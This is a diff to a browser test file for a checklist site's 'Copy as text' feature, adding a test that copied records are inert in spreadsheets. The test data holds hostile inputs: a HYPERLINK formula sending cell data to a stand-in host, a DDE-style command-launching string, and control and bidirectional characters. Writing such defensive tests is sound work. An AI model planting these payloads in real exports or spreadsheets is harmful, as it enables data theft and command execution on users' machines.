@@ -21,6 +21,7 @@ from tests.browser.test_record import (
     http_urls,
     in_record,
     save,
+    source_line,
 )
 from tests.site.reading import CHECKLISTS, items, nav
 
@@ -121,8 +122,9 @@ def test_leaving_asks_only_while_there_is_unsaved_content(
     assert not asks_before_closing(page)
 
 
-def expected_text(stamp: str) -> list[str]:
-    """The record fill_record leaves, as the lines "Copy as text" gives (the last one aside)."""
+def expected_text(stamp: str, sources: dict[str, str]) -> list[str]:
+    """The record fill_record leaves, as the lines "Copy as text" gives (the last one aside):
+    each checklist used with its introductions, its items' notes and its Source line."""
     ticked = {STAGE2: {items(STAGE2)[1]["id"]}, STAGE3: {items(STAGE3)[0]["id"]}}
     position = {src: i for i, src in enumerate(nav())}
     order = sorted(CHECKLISTS, key=lambda cid: position[CHECKLISTS[cid]["page"]])
@@ -133,13 +135,17 @@ def expected_text(stamp: str) -> list[str]:
             continue
         data = CHECKLISTS[cid]
         lines += ["", data["title"], f"{len(ticked[cid])} of {len(items(cid))} covered"]
+        lines += [data["intro"]] if data.get("intro") else []
         for number, section in enumerate(data["sections"]):
             lines += ["", section["title"]]
+            lines += [section["intro"]] if section.get("intro") else []
             for item in section["items"]:
                 state = "Covered" if item["id"] in ticked[cid] else "Not covered"
                 lines.append(f"{state}: {item['text']}")
+                lines += [f"Note: {item['note']}"] if item.get("note") else []
             if cid == STAGE3 and number == 0:
                 lines += [f"Notes: {section['title']}", NOTE]
+        lines += ["", sources[cid]]
     lines += ["", "Checklists not used"]
     lines += [f"{CHECKLISTS[cid]['title']}: not used" for cid in order if cid not in ticked]
     return [*lines, "", f"Copied … {stamp}"]
@@ -161,8 +167,59 @@ def test_copy_as_text_puts_the_printed_records_content_on_the_clipboard(
     assert "<" not in text.replace(NOTE, "")  # no markup of the page's own
     lines = [" ".join(line.split()) for line in text.rstrip("\n").split("\n")]
     last = lines.pop()
-    expected = [" ".join(line.split()) for line in expected_text(stamp)]
+    sources = {cid: source_line(page, cid) for cid in (STAGE2, STAGE3)}
+    expected = [" ".join(line.split()) for line in expected_text(stamp, sources)]
     assert lines == expected[:-1]
     assert re.fullmatch(r"Copied \d{1,2} \w+ \d{4} at \d{2}:\d{2}\. " + re.escape(stamp), last)
     # Copying is not saving: closing still asks.
     assert asks_before_closing(page)
+
+
+# Typed into a note: formulas a spreadsheet would run, and characters that hide or reorder
+# text (ESC, BEL, NUL, a tab that would start a new cell, bidirectional overrides).
+HOSTILE = (
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click")\n'
+    "+1+2\n"
+    "-2+3\n"
+    "@SUM(1)\n"
+    "  =1+1\n"
+    "＝1+1\n"
+    "ok\tthen=cmd\r\n"
+    "bell\x07 nul\x00 esc\x1b[31m red\n"
+    "\u202eevil\u202c \u2066iso\u2069 \u200fmark"
+)
+SAFE = [
+    '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    "'+1+2",
+    "'-2+3",
+    "'@SUM(1)",
+    "'  =1+1",
+    "'＝1+1",
+    "ok then=cmd",
+    "bell nul esc[31m red",
+    "evil iso mark",
+]
+
+
+def test_copy_as_text_is_inert_in_a_spreadsheet(tab: BrowserContext, nginx: str) -> None:
+    """Copied text has no control or bidirectional characters and no line a spreadsheet
+    would run as a formula (an apostrophe before it), and the page says so by the button."""
+    page = opened(tab, http_urls(nginx)(RECORD))
+    hint = page.locator(".hb-record__hint")
+    expect(hint).to_be_visible()
+    expect(hint).to_contain_text("apostrophe")
+    page.get_by_label("Agency", exact=True).fill("=cmd|' /C calc'!A0")
+    notes = in_record(page, STAGE3).locator("textarea").first
+    notes.evaluate(
+        "(box, text) => { box.value = text; box.dispatchEvent(new Event('input', {bubbles: true})); }",
+        HOSTILE,
+    )
+    page.get_by_role("button", name="Copy as text").click()
+    expect(page.locator(".hb-record__message")).to_contain_text("Copied the record")
+    text: str = page.evaluate("navigator.clipboard.readText()")
+    lines = text.split("\n")
+    at = lines.index(SAFE[0])
+    assert lines[at : at + len(SAFE)] == SAFE
+    assert "Agency: =cmd|' /C calc'!A0" in lines
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200e\u200f]", text)
+    assert all(not re.match(r"\s*[=+\-@＝＋－＠]", line) for line in lines)
